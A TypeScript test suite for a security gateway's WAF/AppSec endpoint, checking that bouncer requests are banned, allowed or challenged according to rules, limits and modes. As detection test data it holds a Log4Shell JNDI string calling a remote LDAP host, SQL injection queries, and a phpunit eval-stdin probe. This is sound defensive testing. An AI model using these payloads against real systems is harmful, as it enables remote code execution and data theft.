/** The endpoint of a whole gateway: what its rules say to bouncers, and what becomes of it. */
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import t, { type Test } from 'tap';
import type { RefusalModel, StatusModel, WhyRequest } from '../../../gateway/admin/models.ts';
import { startTestGateway } from '../../support/gateway.ts';
import { suitePath } from '../../support/suites.ts';
import { type Control, controlOf } from '../visitors.ts';
import { ask, bouncerKey, type BouncerAnswer, headOf, converse, type Visit } from './bouncer.ts';
import { eventually } from '../../support/eventually.ts';

interface Opened {
  readonly port: number;
  readonly gatewayPort: number;
  readonly control: Control;
  readonly ask: (visit: Visit) => Promise<BouncerAnswer>;
  readonly statuses: (visits: readonly Visit[]) => Promise<readonly number[]>;
  readonly refusals: (least: number) => Promise<readonly RefusalModel[]>;
}

const quiet = { detection: { builtin: false } };
const log4shell: Visit = { headers: ['X-Api-Version', '${jndi:ldap://192.0.2.1/a}'] };
const form = (body: string): Visit => ({
  verb: 'POST',
  body,
  headers: ['Content-Type', 'application/x-www-form-urlencoded'],
});

async function open(t: Test, settings: Record<string, unknown> = {}): Promise<Opened> {
  const { appsec, ...others } = settings;
  const { gateway, port: gatewayPort } = await startTestGateway(t, {
    waf: {},
    origin: 'http://127.0.0.1:9',
    ...quiet,
    appsec: { listen: '127.0.0.1:0', ...(appsec as object | undefined) },
    ...others,
  });
  const control = controlOf(gateway.controlSocket);
  await control.ask('POST', '/v1/bouncers', {}, { name: 'edge', key: bouncerKey });
  const port = Number(new URL(gateway.facts.appsecUrl ?? '').port);
  return {
    port,
    gatewayPort,
    control,
    ask: (visit) => ask(port, visit),
    async statuses(visits) {
      const found: number[] = [];
      for (const visit of visits) found.push((await ask(port, visit)).status);
      return found;
    },
    refusals: (least) =>
      eventually(
        () => control.refusals(),
        ({ length }) => length >= least,
      ),
  };
}

/** Items in a folder of their own: `detection.folders` takes it. */
function folderOf(t: Test, files: Readonly<Record<string, string>>): string {
  const folder = mkdtempSync(join(tmpdir(), 'appsec-items-'));
  t.teardown(() => rmSync(folder, { recursive: true, force: true }));
  for (const kind of ['appsec-rules', 'appsec-configs']) mkdirSync(join(folder, kind));
  for (const [name, text] of Object.entries(files)) writeFileSync(join(folder, name), text);
  return folder;
}

/** Rules of the test's own, and no others. */
function own(t: Test, rules: string, config: string): Record<string, unknown> {
  const folder = folderOf(t, {
    'appsec-rules/own.yaml': rules,
    'appsec-configs/own.yaml': `name: own/config\n${config}`,
  });
  return { detection: { builtin: false, folders: [folder] }, waf: { virtualPatches: { configs: ['own/config'] } } };
}

const evilBody = 'name: own/body\nrules:\n  - {zones: [RAW_BODY], match: {type: contains, value: evil}}\n';
const evilPath = 'name: own/path\nrules:\n  - {zones: [URI], match: {type: contains, value: /evil}}\n';

t.test('a virtual patch is a ban, with an alert and a reason; the rest is allowed', async (t) => {
  const { ask, control, refusals } = await open(t);
  t.match(await ask({ uri: '/shop?item=7' }), { status: 200, text: '{"action":"allow","http_status":200}' });
  const transactionId = '7e0c1b52-6a1e-4b6e-9d4a-0d6f4f1f2a33';
  t.match(await ask({ ...log4shell, uri: '/x?y=1', transactionId, httpVersion: '20' }), {
    status: 403,
    text: '{"action":"ban","http_status":403}',
  });
  await refusals(1);
  const why = await control.ask<WhyRequest>('GET', `/v1/why/${transactionId}`);
  t.match(why, {
    request_id: transactionId,
    refusal: {
      client_ip: '203.0.113.7',
      client_from: 'x-crowdsec-appsec-ip',
      peer_ip: '127.0.0.1',
      site: 'shop.example',
      method: 'GET',
      target: '/x?y=1',
      status: 403,
      reason: 'waf',
      remediation: 'ban',
      user_agent: 'Mozilla/5.0',
      detail: /^waf: rule \d+, asked by edge$/,
      findings: [{ layer: 'virtual-patches', enforced: true, matches: [{ file: /CVE-2021-44228/ }] }],
    },
    alert: {
      kind: 'waf',
      source: { value: '203.0.113.7' },
      message: /^WAF block: .* from 203\.0\.113\.7 \(127\.0\.0\.1\)$/,
    },
  });
});

t.test('names of requests in other spellings are found too', async (t) => {
  const { ask, control, refusals } = await open(t);
  const ids = ['7E0C1B52-6A1E-4B6E-9D4A-0D6F4F1F2A33', '4d1c4f0f8e8f3a114d1c4f0f8e8f3a11', 'Haproxy-2-000017'];
  for (const transactionId of ids) await ask({ ...log4shell, transactionId });
  await refusals(ids.length);
  for (const id of ids)
    t.match(await control.ask<WhyRequest>('GET', `/v1/why/${id}`), { request_id: id, refusal: { reason: 'waf' } });
});

t.test('who tries two weaknesses through a bouncer is banned by the gateway', async (t) => {
  const { ask, control } = await open(t, { detection: { builtin: true } });
  await ask(log4shell);
  await ask({ headers: ['Spring.Cloud.Function.Routing-Expression', 'x'] });
  await ask({ uri: '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', ...form('<?php') });
  const decisions = await eventually(
    () => control.decisions(),
    ({ length }) => length > 0,
  );
  t.match(decisions[0], { scope: 'Ip', value: '203.0.113.7', type: 'ban' });
});

t.test('allowlisted clients are allowed, keys are revoked, strangers are not answered', async (t) => {
  const { ask, control, statuses } = await open(t);
  t.same(await statuses([log4shell, { ...log4shell, key: null }, { ...log4shell, ip: null }]), [403, 401, 500]);
  await control.allow('203.0.113.0/24');
  t.match(await ask(log4shell), { status: 200, text: '{"action":"allow","http_status":200}' });
  t.equal((await ask({ ...log4shell, ip: '198.51.100.4' })).status, 403);
  await control.ask('DELETE', '/v1/bouncers', { name: 'edge' });
  t.equal((await ask({})).status, 401);
});

t.test('statuses and actions are those of the configuration', async (t) => {
  const codes = [
    'default_remediation: captcha',
    'default_pass_action: go-on',
    'blocked_http_code: 410',
    'passed_http_code: 202',
  ];
  const config = [
    'inband_rules: ["own/*"]',
    ...codes,
    'user_blocked_http_code: 429',
    'user_passed_http_code: 299',
  ].join('\n');
  const { ask } = await open(t, own(t, evilPath, config));
  t.match(await ask({ uri: '/evil' }), { status: 410, text: '{"action":"captcha","http_status":429}' });
  t.match(await ask({ uri: '/good' }), { status: 202, text: '{"action":"go-on","http_status":299}' });
});

t.test('hooks choose the remediation and the status of visitors', async (t) => {
  const config = `inband_rules: ["own/*"]
on_match:
  - filter: req.URL.Path == "/evil/captcha"
    apply: [SetRemediation("captcha"), SetReturnCode(418)]
  - filter: req.URL.Path == "/evil/pass"
    apply: [SetRemediation("allow")]
pre_eval:
  - filter: req.Host == "closed.example"
    apply: ['DropRequest("closed")']
`;
  const { ask, refusals } = await open(t, own(t, evilPath, config));
  t.match(await ask({ uri: '/evil/captcha' }), { status: 403, text: '{"action":"captcha","http_status":418}' });
  t.match(await ask({ uri: '/evil/pass' }), { status: 200, text: '{"action":"allow","http_status":200}' });
  t.match(await ask({ uri: '/', host: 'closed.example' }), { status: 403, text: '{"action":"ban","http_status":403}' });
  const found = await refusals(2);
  t.same(found.map(({ target, status, remediation }) => `${target} ${status} ${remediation}`).toSorted(), [
    '/ 403 ban',
    '/evil/captcha 418 captcha',
  ]);
});

t.test('out-of-band rules speak after the answer, and see the body whatever the headers came to', async (t) => {
  const rules = `${evilPath}---\n${evilBody.replace('own/body', 'watch/body')}`;
  const config =
    'inband_rules: ["own/*"]\noutofband_rules: ["watch/*"]\non_match:\n  - filter: IsOutBand\n    apply: [SendAlert()]\n';
  const { ask, control } = await open(t, own(t, rules, config));
  t.equal((await ask({ uri: '/good', ...form('evil') })).status, 200);
  const first = await eventually(
    () => control.alerts(),
    ({ length }) => length === 1,
  );
  t.match(first, [{ scenario: 'watch/body', message: /out-of-band/ }]);
  t.equal((await ask({ uri: '/evil', ...form('evil') })).status, 403);
  const both = await eventually(
    () => control.alerts(),
    ({ length }) => length === 3,
  );
  t.same(both.map(({ scenario }) => scenario).toSorted(), ['own/path', 'watch/body', 'watch/body']);
});

const padded = (length: number): Visit => ({
  ...form(`evil${'x'.repeat(length)}`),
  headers: ['Content-Type', 'text/plain'],
});
const behind = (length: number): Visit => ({ ...padded(0), body: `${'x'.repeat(length)}evil` });
const harmless = (length: number): Visit => ({ ...padded(0), body: 'x'.repeat(length) });

t.test('bodies above the limit: dropped, judged by their beginning, or not looked at', async (t) => {
  const visits = [padded(100), padded(4_000), behind(4_000), harmless(4_000), harmless(2_048)];
  const outcomes: Record<string, readonly number[]> = {
    drop: [403, 403, 403, 403, 200],
    partial: [403, 403, 200, 200, 200],
    allow: [403, 200, 200, 200, 200],
  };
  for (const [bodyOver, expected] of Object.entries(outcomes)) {
    const { statuses } = await open(t, {
      ...own(t, evilBody, 'inband_rules: ["own/*"]'),
      appsec: { bodyBytes: 2_048, bodyOver },
    });
    t.same(await statuses(visits), expected, bodyOver);
  }
});

t.test('a long body is dropped although no rule runs in-band, and that is told', async (t) => {
  const { ask, refusals } = await open(t, {
    ...own(t, evilBody, 'outofband_rules: ["own/*"]'),
    appsec: { bodyBytes: 2_048 },
  });
  t.equal((await ask(padded(0))).status, 200);
  t.match(await ask(harmless(3_000)), { status: 403, text: '{"action":"ban","http_status":403}' });
  t.match(await refusals(1), [{ reason: 'rejected', detail: 'the body has more than 2048 bytes, asked by edge' }]);
});

t.test('a limit that a hook sets is the limit', async (t) => {
  const limit = (apply: string): string => `inband_rules: ["own/*"]\non_load:\n  - apply: [${apply}]\n`;
  const smaller = await open(t, own(t, evilBody, limit('SetMaxBodySize(100), SetBodySizeExceededAction("partial")')));
  t.same(await smaller.statuses([padded(4_000), behind(4_000), behind(50), harmless(4_000)]), [403, 200, 403, 200]);
  const larger = await open(t, {
    ...own(t, evilBody, limit('SetMaxBodySize(10000)')),
    appsec: { bodyBytes: 2_048, bodyOver: 'partial' },
  });
  t.same(await larger.statuses([behind(9_000), behind(20_000)]), [403, 200], 'its action is that of the settings');
});

t.test('the endpoint has limits of its own, larger than those of the gateway’s visitors', async (t) => {
  const settings = own(t, evilBody, 'inband_rules: ["own/*"]');
  const { ask, gatewayPort } = await open(t, {
    ...settings,
    waf: { ...(settings.waf as object), requestBody: { bytes: '4KiB' } },
    appsec: { bodyBytes: '1MiB' },
  });
  const visitor = (body: string): Promise<number> =>
    fetch(`http://127.0.0.1:${gatewayPort}/`, { method: 'POST', body, headers: { 'content-type': 'text/plain' } }).then(
      ({ status }) => status,
    );
  t.equal((await ask(behind(3_000))).status, 403);
  t.equal(await visitor(`${'x'.repeat(3_000)}evil`), 403);
  t.equal(await visitor(`${'x'.repeat(5_000)}evil`), 502, 'passed to an origin that is not there');
  t.equal((await ask(harmless(600_000))).status, 200, 'not above the limit of the endpoint');
  t.equal((await ask(harmless(1_100_000))).status, 403, 'above it');
});

t.test('ten megabytes of every kind are judged in time', async (t) => {
  const { ask } = await open(t);
  const size = 9_000_000;
  const bodies: readonly (readonly [string, string])[] = [
    ['application/octet-stream', 'x'.repeat(size)],
    ['application/json', `{"a":"${'x'.repeat(size)}"}`],
    ['application/json', `["${'line\\n'.repeat(size / 6)}"]`],
    ['application/x-www-form-urlencoded', `a=${'x'.repeat(size)}`],
    [
      'multipart/form-data; boundary=b',
      `--b\r\nContent-Disposition: form-data; name="f"; filename="a.bin"\r\n\r\n${'x'.repeat(size)}\r\n--b--\r\n`,
    ],
  ];
  for (const [type, body] of bodies) {
    t.equal((await ask({ verb: 'POST', body, headers: ['Content-Type', type] })).status, 200, type);
  }
});

t.test('the Core Rule Set judges in the mode of the settings', async (t) => {
  const crs = suitePath(t, 'crs');
  if (crs === null) return;
  const attack: Visit = {
    uri: "/search?q=1'%20UNION%20SELECT%20password%20FROM%20users--%20-",
    headers: ['Accept', '*/*'],
  };
  const expected: Record<string, readonly [number, string | undefined, boolean | undefined]> = {
    block: [403, 'waf', true],
    observe: [200, 'waf-observed', false],
    off: [200, undefined, undefined],
  };
  for (const [mode, [status, reason, enforced]] of Object.entries(expected)) {
    const { ask, refusals, control } = await open(t, { waf: { coreRules: { mode, folder: crs } } });
    t.equal((await ask({ uri: '/search?q=a+book', headers: ['Accept', '*/*'] })).status, 200);
    const { text } = await ask(attack);
    t.equal(text, status === 403 ? '{"action":"ban","http_status":403}' : '{"action":"allow","http_status":200}', mode);
    // What comes last is stored last.
    await ask(log4shell);
    const found = await refusals(reason === undefined ? 1 : 2);
    const [refusal] = found.filter(({ target }) => target === attack.uri);
    t.equal(refusal?.reason, reason);
    t.equal(refusal?.findings[0]?.enforced, enforced);
    if (reason !== undefined) t.match(refusal, { status, findings: [{ layer: 'core-rules', rule_id: 949110 }] });
    t.same(
      (await control.alerts()).filter(({ scenario }) => scenario.includes('949110')),
      [],
    );
  }
});

t.test('exceptions that are made from a refusal hold for the bouncer’s site', async (t) => {
  const crs = suitePath(t, 'crs');
  if (crs === null) return;
  const { ask, refusals, control } = await open(t, { waf: { coreRules: { mode: 'block', folder: crs } } });
  const visit: Visit = { uri: "/search?q=1'%20or%20'1'%3D'1", headers: ['Accept', '*/*'] };
  t.equal((await ask(visit)).status, 403);
  const [refusal] = await refusals(1);
  const rules = (refusal?.findings[0]?.matches ?? []).filter(({ score }) => score > 0).map(({ rule_id }) => rule_id);
  t.ok(rules.length > 0);
  for (const rule of rules) {
    const scope = { rule, request: refusal?.request_id, site: 'shop.example', path: '/search', target: 'ARGS:q' };
    await control.ask('POST', '/v1/waf/exceptions', {}, { ...scope, force: true });
  }
  t.equal((await ask(visit)).status, 200);
  t.equal((await ask({ ...visit, host: 'other.example' })).status, 403);
});

t.test('where the gateway observes, the endpoint does', async (t) => {
  for (const observing of [{ mode: 'observe' }, { waf: { virtualPatches: { mode: 'observe' } } }]) {
    const { ask, refusals, control } = await open(t, observing);
    t.match(await ask(log4shell), { status: 200, text: '{"action":"allow","http_status":200}' });
    t.match(await refusals(1), [{ reason: 'waf-observed', status: 200, remediation: '' }]);
    t.same(await control.alerts(), [], 'nothing is held against the client');
  }
});

t.test('rules that are off for the gateway’s own visitors are opened for bouncers alone', async (t) => {
  const { ask, gatewayPort } = await open(t, { waf: { virtualPatches: { mode: 'off' } } });
  t.equal((await ask(log4shell)).status, 403);
  const own = await fetch(`http://127.0.0.1:${gatewayPort}/eval-stdin.php`);
  t.equal(own.status, 502, 'the origin is asked, which is not there');
});

t.test('status names the endpoint, and it goes with the gateway', async (t) => {
  const { gateway } = await startTestGateway(t, {
    waf: {},
    origin: 'http://127.0.0.1:9',
    ...quiet,
    appsec: { listen: '127.0.0.1:0' },
  });
  const status = await controlOf(gateway.controlSocket).ask<StatusModel>('GET', '/v1/status');
  t.match(status.appsec_url, /^http:\/\/127\.0\.0\.1:\d+$/);
  const port = Number(new URL(status.appsec_url ?? '').port);
  t.equal((await ask(port, {})).status, 401);
  await gateway.stop();
  await t.rejects(ask(port, {}), { code: 'ECONNREFUSED' });

  const without = await startTestGateway(t, { waf: {}, origin: 'http://127.0.0.1:9', ...quiet });
  const off = await controlOf(without.gateway.controlSocket).ask<StatusModel>('GET', '/v1/status');
  t.equal(off.appsec_url, null);
});

t.test('an address that is taken keeps the gateway from starting', async (t) => {
  const holder = createServer();
  await new Promise<void>((resolve) => void holder.listen(0, '127.0.0.1', resolve));
  t.teardown(() => new Promise((resolve) => void holder.close(resolve)));
  const { port } = holder.address() as { readonly port: number };
  await t.rejects(open(t, { appsec: { listen: `127.0.0.1:${port}` } }), { code: 'ADDRESS_IN_USE' });
  await t.rejects(open(t, { listen: '127.0.0.1:17422', appsec: { listen: ':17422' } }), /`listen` has the same port/);
  await t.rejects(
    open(t, { admin: { listen: ':17422' }, appsec: { listen: '127.0.0.1:17422' } }),
    /`admin\.listen` has the same port/,
  );
});

t.test('many bouncers at once', async (t) => {
  const { port } = await open(t);
  const bad = `${headOf(log4shell)}\r\n`;
  const good = `${headOf({ uri: '/a?b=c' })}\r\n`;
  const all = await Promise.all(
    Array.from({ length: 20 }, () => converse(port, `${good}${bad}`.repeat(10), { until: 20 })),
  );
  for (const answers of all) {
    t.same(
      answers.map(({ status }) => status),
      Array.from({ length: 20 }, (_, at) => (at % 2 === 0 ? 200 : 403)),
    );
  }
});
